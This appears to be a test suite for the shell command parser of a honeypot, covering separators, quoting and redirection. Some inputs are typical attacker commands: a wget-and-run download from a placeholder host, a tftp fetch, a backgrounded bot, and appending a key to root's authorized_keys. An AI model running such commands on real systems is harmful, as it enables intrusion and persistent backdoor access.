"""Tests for shell command-line parsing."""

import shlex

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.honeypot.shell.parser import (
    _split_top_level,
    _split_words,
    split_command_line,
)


class TestSplitting:
    def test_single_command(self):
        cmds = split_command_line("uname -a")
        assert len(cmds) == 1
        assert cmds[0].argv == ["uname", "-a"]

    def test_semicolon(self):
        cmds = split_command_line("uname; free")
        assert [c.name for c in cmds] == ["uname", "free"]

    def test_pipe(self):
        cmds = split_command_line("cat /proc/cpuinfo | grep name | wc -l")
        assert [c.name for c in cmds] == ["cat", "grep", "wc"]

    def test_and_and(self):
        cmds = split_command_line("cd /tmp && wget http://x/y && sh y")
        assert [c.name for c in cmds] == ["cd", "wget", "sh"]

    def test_or_or(self):
        cmds = split_command_line("wget http://x/y || tftp -g x")
        assert [c.name for c in cmds] == ["wget", "tftp"]

    def test_mixed_separators(self):
        cmds = split_command_line("a; b && c | d || e")
        assert [c.name for c in cmds] == ["a", "b", "c", "d", "e"]

    def test_semicolon_inside_quotes_preserved(self):
        cmds = split_command_line('echo "a; b"')
        assert len(cmds) == 1
        assert cmds[0].argv == ["echo", "a; b"]

    def test_pipe_inside_quotes_preserved(self):
        cmds = split_command_line("echo 'x | y'")
        assert len(cmds) == 1

    def test_empty_segments_dropped(self):
        cmds = split_command_line("a;; ;b")
        assert [c.name for c in cmds] == ["a", "b"]

    def test_trailing_background_ampersand(self):
        cmds = split_command_line("./bot &")
        assert len(cmds) == 1
        assert cmds[0].name == "./bot"

    def test_empty_line(self):
        assert split_command_line("") == []
        assert split_command_line("   ") == []


class TestRedirection:
    def test_truncating_redirect(self):
        cmd = split_command_line("echo hi > /tmp/f")[0]
        assert cmd.argv == ["echo", "hi"]
        assert cmd.redirect_path == "/tmp/f"
        assert not cmd.redirect_append

    def test_append_redirect(self):
        cmd = split_command_line('echo "key" >> /root/.ssh/authorized_keys')[0]
        assert cmd.redirect_append
        assert cmd.redirect_path == "/root/.ssh/authorized_keys"

    def test_redirect_inside_quotes_ignored(self):
        cmd = split_command_line('echo "a > b"')[0]
        assert cmd.redirect_path is None
        assert cmd.argv == ["echo", "a > b"]

    def test_redirect_then_semicolon(self):
        cmds = split_command_line("echo x > /tmp/f; cat /tmp/f")
        assert cmds[0].redirect_path == "/tmp/f"
        assert cmds[1].name == "cat"

    def test_text_field_keeps_original(self):
        cmd = split_command_line("echo x > f")[0]
        assert cmd.text == "echo x > f"

    def test_redirect_without_target(self):
        cmd = split_command_line("echo x >")[0]
        assert cmd.redirect_path is None


def _scan_top_level(line):
    """Reference splitter: a character-by-character scan."""
    parts, buf, quote, i = [], [], None, 0
    while i < len(line):
        ch = line[i]
        if quote:
            buf.append(ch)
            if ch == quote:
                quote = None
            i += 1
        elif ch in ("'", '"', "`"):
            quote = ch
            buf.append(ch)
            i += 1
        elif line.startswith("&&", i) or line.startswith("||", i):
            parts.append("".join(buf))
            buf = []
            i += 2
        elif ch in (";", "|", "\n"):
            parts.append("".join(buf))
            buf = []
            i += 1
        elif ch == "&":
            i += 1
        else:
            buf.append(ch)
            i += 1
    parts.append("".join(buf))
    return [p.strip() for p in parts if p.strip()]


def _reference_words(body):
    """Reference word splitter: posix shlex, whitespace split on error or
    when there is nothing to unquote."""
    if "'" not in body and '"' not in body and "\\" not in body:
        return body.split()
    try:
        return shlex.split(body, posix=True)
    except ValueError:
        return body.split()


_SHELL_TEXT = st.text(
    alphabet=st.sampled_from(list("ab xy\t'\"`|;&>$()\\\n") + ["\x0b", "\xa0"]),
    max_size=24,
)


class TestAgainstReference:
    @settings(max_examples=600, deadline=None)
    @given(_SHELL_TEXT)
    def test_top_level_split_matches_a_character_scan(self, line):
        assert _split_top_level(line) == _scan_top_level(line)

    @settings(max_examples=600, deadline=None)
    @given(_SHELL_TEXT)
    def test_word_split_matches_shlex(self, body):
        assert _split_words(body) == _reference_words(body)

    def test_cached_parse_returns_fresh_copies(self):
        first = split_command_line("echo 'a b' > /tmp/x")
        first[0].argv.append("mutated")
        again = split_command_line("echo 'a b' > /tmp/x")
        assert again[0].argv == ["echo", "a b"]
